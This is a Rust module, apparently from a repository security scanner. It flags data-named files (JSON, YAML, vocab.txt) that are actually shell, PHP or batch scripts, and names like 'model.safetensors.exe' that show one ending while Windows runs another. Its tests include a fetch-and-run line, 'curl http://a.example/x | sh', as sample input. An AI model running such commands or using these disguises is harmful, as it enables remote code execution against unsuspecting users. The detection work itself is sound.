//! Programs under the names of data: scripts in place of a configuration or vocabulary, and names with two endings, of
//! which people see the first and the machine goes by the last.
//!
//! Weights of whatever ending are held against their names by `claim`. Not looked at: what the script does, which is for
//! the readers of its language.

use super::claim::FORMAT_MISMATCH;
use super::{Scope, lines, shell};
use crate::model::{Evidence, Severity};
use crate::weigh::View;

/// Endings of texts that hold data.
static DATA: [&str; 8] = ["json", "ipynb", "jsonl", "yaml", "yml", "toml", "csv", "tsv"];

/// The same for whole names.
static NAMED: [&str; 4] = ["vocab.txt", "merges.txt", "requirements.txt", "labels.txt"];

/// Endings of models and documents, which a name may show before its last one.
static SHOWN: [&str; 22] = [
    "safetensors",
    "gguf",
    "onnx",
    "pt",
    "pth",
    "ckpt",
    "pkl",
    "h5",
    "keras",
    "tflite",
    "npz",
    "parquet",
    "json",
    "pdf",
    "doc",
    "docx",
    "txt",
    "png",
    "jpg",
    "jpeg",
    "csv",
    "md",
];

/// Endings by which Windows starts a file.
static STARTED: [&str; 16] =
    ["exe", "scr", "com", "pif", "cpl", "bat", "cmd", "vbs", "vbe", "jse", "wsf", "wsh", "hta", "lnk", "msi", "ps1"];

/// The two endings of a name, in small letters, that shows one and is started by the other.
pub fn endings(name: &str) -> Option<(&str, &str)> {
    let (stem, last) = name.rsplit_once('.')?;
    let (_, shown) = stem.trim_end().rsplit_once('.')?;
    (STARTED.contains(&last) && SHOWN.contains(&shown)).then_some((shown, last))
}

/// Looks at a text. `name` is in small letters.
pub fn inspect(name: &str, text: &str, view: &View<'_>, scope: &mut Scope<'_>) {
    if let Some((shown, last)) = endings(name) {
        let message = format!("the name shows the ending .{shown}, and .{last} starts it as a program");
        scope.raise(&FORMAT_MISMATCH, view, 0..view.len().min(16), message);
    }
    let ending = name.rsplit_once('.').map_or("", |(_, ending)| ending);
    if !DATA.contains(&ending) && !NAMED.contains(&name) {
        return;
    }
    let json = matches!(ending, "json" | "ipynb" | "jsonl");
    if let Some(what) = script(text).or_else(|| json.then(|| commands(text)).flatten()) {
        let message = format!("{name:?} is named as data, and it is {what}");
        let end = text.find('\n').unwrap_or(text.len());
        lines::raise(Evidence::new(&FORMAT_MISMATCH, message).rated(Severity::High), text, 0..end, view, scope);
    }
}

/// What kind of script a text is by its first line.
fn script(text: &str) -> Option<String> {
    let text = text.trim_start_matches('\u{feff}');
    if let Some(line) = text.strip_prefix("#!").and_then(|rest| rest.lines().next()) {
        // Tools that read data have such lines, too, as `ansible-playbook` does.
        let words = line.split(|c: char| c.is_whitespace() || c == '/');
        let mut programs = words.map(|word| word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'));
        return programs.find(|program| shell::runs(program)).map(|program| format!("a script for {program}"));
    }
    let begin = text.trim_start();
    let lower = begin.get(..begin.floor_char_boundary(16)).unwrap_or_default().to_ascii_lowercase();
    if lower.starts_with("<?php") {
        return Some("a script for PHP".to_owned());
    }
    lower.starts_with("@echo off").then(|| "a batch file of Windows".to_owned())
}

/// Commands where JSON should be.
fn commands(text: &str) -> Option<String> {
    let begin = text.trim_start_matches('\u{feff}').trim_start();
    if begin.starts_with(['{', '[', '"']) {
        return None;
    }
    let some = begin.get(..begin.floor_char_boundary(64 << 10)).unwrap_or_default();
    let why = shell::commands(some).into_iter().find_map(|(command, _)| shell::hostile(&command))?;
    Some(format!("a script: {why}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_and_endings() {
        for text in
            ["#!/bin/sh\nx", "#!/usr/bin/env python3\n", "#! /usr/bin/env -S node\n", "<?php x", "@echo off\r\n"]
        {
            assert!(script(text).is_some(), "{text}");
        }
        for text in ["#!/usr/bin/env ansible-playbook\n", "{}", "# !/bin/sh", "", "#!"] {
            assert!(script(text).is_none(), "{text}");
        }
        assert!(commands("curl http://a.example/x | sh\n").is_some() && commands("{\"a\": 1}").is_none());
        assert_eq!(endings("model.safetensors.exe"), Some(("safetensors", "exe")));
        assert_eq!(endings("card.pdf   .scr"), Some(("pdf", "scr")));
        assert_eq!(endings("a.pdf.scr"), Some(("pdf", "scr")));
        assert!(endings("setup-1.2.exe").is_none() && endings("model.onnx.so").is_none() && endings("exe").is_none());
    }
}
